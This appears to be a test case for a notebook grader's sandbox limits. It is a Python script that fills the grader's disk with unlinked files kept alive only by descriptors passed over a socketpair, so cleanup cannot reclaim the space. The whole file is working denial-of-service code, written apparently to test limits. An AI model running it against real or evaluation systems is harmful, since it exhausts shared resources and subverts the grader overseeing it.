"""Fills the grader's disk with deleted files that only a socket holds: sent, and never taken in.

attack: disk
limits: disk=24 cell=8
names: disk
"""
import array, os, socket, time
from ipykernel.connect import get_connection_file
path = os.path.join(os.path.dirname(get_connection_file()), "sent")
a, b = socket.socketpair()
for _ in range(10):
    file = os.open(path, os.O_RDWR | os.O_CREAT)
    os.unlink(path)
    os.write(file, bytes(2**23))
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
    os.close(file)
time.sleep(100)
